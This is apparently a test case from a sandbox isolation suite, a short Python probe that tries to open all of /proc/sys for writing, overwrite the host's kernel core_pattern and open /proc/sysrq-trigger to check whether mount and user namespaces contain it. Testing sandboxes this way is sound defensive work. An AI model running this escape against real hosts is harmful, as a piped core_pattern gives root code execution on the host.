# id: A5
# attack: opens every file below /proc/sys for writing, and sets core_pattern (a pipe there is a program that root runs)
# walls: mount, user
# effect: the host's /proc/sys/kernel/core_pattern has changed
# verdict: AC
import os
import sys

from facts import attempt, fact

opened = []
for folder, _, names in os.walk("/proc/sys"):
    for name in names:
        path = os.path.join(folder, name)
        try:
            os.close(os.open(path, os.O_WRONLY))
            opened.append(path)
        except OSError:
            pass
fact(attempt="open for writing", opened=len(opened))


def set_pattern():
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        return file.write(sys.argv[1])


attempt("core_pattern", set_pattern)
attempt("sysrq", lambda: os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY)))
